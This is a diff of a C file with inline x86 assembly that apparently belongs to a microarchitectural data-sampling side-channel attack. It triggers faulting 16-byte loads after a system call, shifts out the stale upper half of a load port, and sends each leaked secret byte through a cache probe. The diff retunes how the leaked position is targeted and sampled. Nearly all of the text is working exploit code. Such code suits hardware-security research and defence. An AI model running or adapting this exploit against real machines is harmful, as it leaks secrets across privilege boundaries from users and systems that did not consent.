@@ -3,50 +3,50 @@
  * tectural Data Sampling"): a faulting load of more than eight bytes receives what a load port
  * delivered last. Shorter loads in between leave the upper half of a port as it was, so the upper
  * half of the last long load survives a system call. The secret's owner compares 16 bytes at a time
- * from a place that the request names; with eight bytes before the wanted one, that is in the upper
- * half.
+ * from a place that the request names; here it is such that the upper half ends with the wanted byte.
  */
-#include "attack.h"
-
-#include <sys/mman.h>
-
-#include "channel.h"
+#include "buffers.h"
 #include "fault.h"
-#include "secret.h"
 
-enum { PAGE_BYTES = 4096, HALF_PORT = 8 };
+enum { HALF_PORT = 8 };
 
-static const uint8_t *probe, *denied;
+/* A load of 16 bytes at %[address], of which the upper eight count. */
+#define SAMPLE_PORT                             \
+	"movdqu (%[address]), %%xmm0\n\t"       \
+	"psrldq $8, %%xmm0\n\t"                 \
+	"movq %%xmm0, %%rax\n\t" SEND_IF_KNOWN
 
-/* A system call, then a faulting load of 16 bytes, of which byte 8 is sent. */
-static void call_and_send_long_load(long number, long first, const void *second, long third)
+static const uint8_t *denied;
+
+/* A system call, then loads that fault. Divisions keep the first from retiring. */
+static void call_and_sample(long number, long first, const void *second, long third)
 {
-	register const uint8_t *address_register __asm__("r9") = denied;
+	register const uint8_t *address_register __asm__("r9") = denied + place / LINE_BYTES * LINE_BYTES;
 	register const uint8_t *probe_register __asm__("r8") = probe;
+	register uint64_t known_register __asm__("r10") = known;
 
 	__asm__ volatile(
 		RESUME_AT_9
 		"mov %[number], %%rax\n\t"
 		"syscall\n\t"
-		"movdqu (%[address]), %%xmm0\n\t"
-		"psrldq $8, %%xmm0\n\t"
-		"movq %%xmm0, %%rax\n\t"
-		"movzbl %%al, %%eax\n\t"
-		SEND_BYTE
+		"mov $1, %%eax\n\t"
+		"mov $1, %%ecx\n\t"
+		"xor %%edx, %%edx\n\t"
+		"div %%rcx\n\t"
+		"div %%rcx\n\t"
+		"div %%rcx\n\t"
+		FOUR_TIMES(SAMPLE_PORT)
 		RESUMED
-		:
-		: [number] "r"(number), "D"(first), "S"(second), "d"(third), [address] "r"(address_register),
-		  [probe] "r"(probe_register)
+		: "+d"(third)
+		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
+		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
 		: "rax", "rcx", "r11", "xmm0", "memory", "cc");
 }
 
 static int sample(int index)
 {
-	uint8_t answer;
-
-	flush_probe(probe);
-	send_guess(index - HALF_PORT);
-	call_and_send_long_load(SYS_read, answers_of_service, &answer, 1);
+	aim(index);
+	use_secret_by(call_and_sample, index - KNOWN_BEFORE - HALF_PORT);
 	return reload_probe(probe);
 }
 
@@ -59,9 +59,10 @@ int main(int argc, char **argv)
 	catch_faults();
 	calibrate();
 	probe = own_probe();
+	memset(elsewhere, 1, sizeof(elsewhere));
 	denied = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	if (denied == MAP_FAILED)
 		err(1, "mmap");
-	recover(sample, (struct patience){ .samples = 60, .lead = 3 }, 1);
+	recover_in_order(sample);
 	return 0;
 }
